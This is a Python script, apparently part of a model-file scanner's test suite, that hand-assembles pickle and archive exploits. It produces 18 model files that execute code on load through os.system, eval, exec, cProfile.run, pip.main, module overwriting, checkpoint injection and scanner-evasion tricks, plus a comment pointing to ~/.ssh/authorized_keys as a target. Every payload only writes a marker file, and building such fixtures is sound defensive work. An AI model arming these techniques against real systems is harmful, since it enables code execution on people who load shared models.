"""Builds model files that act while they are loaded, each by a technique seen in the wild or in an advisory.

All are inert: the worst that any does is to write one small file, `loadlock-marker-NAME`, in the temp directory.
Nothing here is loaded. `verify_traps.py` shows that they work, in child processes.

python examples/build_booby_trapped.py      needs test/python/requirements.txt
"""

import base64
import io
import pickle
import struct
import zipfile
from pathlib import Path

import joblib
import numpy as np
import py7zr

HERE = Path(__file__).parent / "booby-trapped"
CHECKPOINT = Path(__file__).parent / "honest" / "digits-checkpoint.pt"


# The smallest assembler that the traps need: opcodes are bytes, a pickle is their sum.

PROTO = b"\x80\x04"
MARK, POP, STOP, BUILD, REDUCE, DICT, NONE = b"(", b"0", b".", b"b", b"R", b"d", b"N"
STACK_GLOBAL, TUPLE1, TUPLE2, MEMOIZE, EMPTY_LIST, APPENDS = b"\x93", b"\x85", b"\x86", b"\x94", b"]", b"e"


def text(value):
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data  # BINUNICODE


def get(slot):
    return b"h" + bytes([slot])  # BINGET


def name(module, attribute):
    return text(module) + text(attribute) + STACK_GLOBAL


def call(function, *arguments):
    return function + MARK + b"".join(arguments) + b"t" + REDUCE


def honest():
    """What the victim hopes to get: a dictionary of weights."""
    return pickle.dumps({"weights": [0.25, -1.5, 3.0], "classes": ["cat", "dog"]}, 4)[2:-1]


# What each trap does if it is loaded.


def shell(marker):
    return f'touch "${{TMPDIR:-/tmp}}/loadlock-marker-{marker}"'


def python(marker):
    return f"__import__('pathlib').Path(__import__('tempfile').gettempdir(), 'loadlock-marker-{marker}').touch()"


class Trap:
    """An object that pickles as a call to eval."""

    def __init__(self, marker):
        self.expression = python(marker)

    def __reduce__(self):
        return eval, (self.expression,)


def reduce_system():
    """The classic: REDUCE calls os.system, which pickle knows as posix.system."""
    return PROTO + call(name("posix", "system"), text(shell("reduce-system"))) + STOP


def eval_expression():
    """builtins.eval of an expression, as a member of a dictionary that looks like a model."""
    return pickle.dumps({"weights": [0.25, -1.5], "activation": Trap("eval-expression")}, 4)


def memoized_name():
    """STACK_GLOBAL takes its two names from the memo, where they were put as ordinary words of a list."""
    words = EMPTY_LIST + MARK
    for word in ("vocabulary", "posix", "system", "weights"):
        words += text(word) + MEMOIZE
    return PROTO + words + APPENDS + POP + call(get(1) + get(2) + STACK_GLOBAL, text(shell("memoized-name"))) + STOP


def inst_protocol_0():
    """Protocol 0 is plain text; INST names the function and calls it with what lies above the mark."""
    return b"(S'" + shell("inst-protocol-0").encode() + b"'\niposix\nsystem\n."


def popped_call():
    """The result of the call is thrown away, and an honest dictionary is what pickle.load returns."""
    return PROTO + call(name("posix", "system"), text(shell("popped-call"))) + POP + honest() + STOP


def broken_stream():
    """The call comes first, then bytes that no unpickler can read: the error is raised too late."""
    return PROTO + call(name("builtins", "eval"), text(python("broken-stream"))) + POP + b"\xff\xfe not a pickle"


def pip_main():
    """No shell and no eval: pip's own entry point, here with options that only write a log file."""
    path = "/tmp/loadlock-marker-pip-main"
    options = EMPTY_LIST + MARK + text("--log") + text(path) + text("config") + text("list") + APPENDS
    return PROTO + call(name("pip", "main"), options) + POP + honest() + STOP


def profiled_statement():
    """cProfile.run executes its argument."""
    statement = python("profiled-statement")
    return PROTO + call(name("cProfile", "run"), text(statement)) + POP + honest() + STOP


def attribute_chain():
    """A dotted name walks from a harmless module to os.system: logging has imported os."""
    return PROTO + call(name("logging", "os.system"), text(shell("attribute-chain"))) + POP + honest() + STOP


def build_overwrite():
    """BUILD on a module replaces a function: collections.OrderedDict becomes eval, then it is "constructed"."""
    module = name("logging", "collections")
    state = MARK + text("OrderedDict") + name("builtins", "eval") + DICT
    construct = call(name("collections", "OrderedDict"), text(python("build-overwrite")))
    return PROTO + module + state + BUILD + POP + construct + POP + honest() + STOP


def nested_base64():
    """The real pickle is text inside the first one, which decodes and loads it."""
    inner = base64.b64encode(PROTO + call(name("posix", "system"), text(shell("nested-base64"))) + STOP).decode()
    decoded = call(name("base64", "b64decode"), text(inner))
    return PROTO + call(name("_pickle", "loads"), decoded) + POP + honest() + STOP


def write_file():
    """Runs nothing: it writes a file. An attacker would choose ~/.ssh/authorized_keys."""
    path = call(name("pathlib", "PosixPath"), text("/tmp/loadlock-marker-write-file"))
    return PROTO + call(name("pathlib", "Path.write_text"), path, text("written by a model\n")) + POP + honest() + STOP


def compressed():
    """joblib decompresses before it unpickles, so the bytes on disk show nothing."""
    buffer = io.BytesIO()
    joblib.dump({"model": Trap("compressed"), "version": 2}, buffer, compress=("zlib", 3))
    return buffer.getvalue()


def object_array():
    """A .npy of objects is a header and a pickle."""
    buffer = io.BytesIO()
    np.save(buffer, np.array([1.5, Trap("object-array")], dtype=object), allow_pickle=True)
    return buffer.getvalue()


def object_member():
    """One array of objects among the honest arrays of an .npz."""
    buffer = io.BytesIO()
    scale = np.array([Trap("object-member")], dtype=object)
    np.savez(buffer, weights=np.eye(3), scale=scale)
    return buffer.getvalue()


def injected_checkpoint(marker="injected-checkpoint"):
    """A real torch checkpoint with a call put in front of its pickle; everything else is as it was."""
    buffer = io.BytesIO()
    payload = MARK + text(python(marker)) + b"t" + REDUCE + POP
    with zipfile.ZipFile(CHECKPOINT) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as target:
        for entry in source.infolist():
            data = source.read(entry)
            if entry.filename.endswith("/data.pkl"):
                data = data[:2] + b"cbuiltins\neval\n" + payload + data[2:]
            target.writestr(zipfile.ZipInfo(entry.filename, (2024, 1, 1, 0, 0, 0)), data)
    return buffer.getvalue()


def name_mismatch():
    """The same, with another name in each local header: torch reads the central directory and does not compare."""
    data = bytearray(injected_checkpoint("name-mismatch"))
    at = 0
    while data[at : at + 4] == b"PK\x03\x04":
        size, name_size, extra_size = struct.unpack_from("<IHH", data, at + 22)[0:3]
        local = data[at + 30 : at + 30 + name_size]
        data[at + 30 : at + 30 + name_size] = local.replace(b".pkl", b".txt")
        at += 30 + name_size + extra_size + size
    return bytes(data)


def container():
    """A pickle in a 7z archive, which scanners that know only zip pass over."""
    inner = PROTO + call(name("builtins", "exec"), text(python("container"))) + STOP
    buffer = io.BytesIO()
    with py7zr.SevenZipFile(buffer, "w") as archive:
        archive.writestr(inner, "model/weights.pkl")
    return buffer.getvalue()


TRAPS = {
    "reduce-system.pkl": reduce_system,
    "eval-expression.pkl": eval_expression,
    "memoized-name.pkl": memoized_name,
    "inst-protocol-0.pkl": inst_protocol_0,
    "popped-call.pkl": popped_call,
    "broken-stream.pkl": broken_stream,
    "pip-main.pkl": pip_main,
    "profiled-statement.pkl": profiled_statement,
    "attribute-chain.pkl": attribute_chain,
    "build-overwrite.pkl": build_overwrite,
    "nested-base64.pkl": nested_base64,
    "write-file.pkl": write_file,
    "compressed.joblib": compressed,
    "object-array.npy": object_array,
    "object-member.npz": object_member,
    "injected-checkpoint.pt": injected_checkpoint,
    "name-mismatch.pt": name_mismatch,
    "container.7z": container,
}

if __name__ == "__main__":
    HERE.mkdir(exist_ok=True)
    for file, build in TRAPS.items():
        (HERE / file).write_bytes(build())
        print(f"{(HERE / file).stat().st_size:8}  {file}")
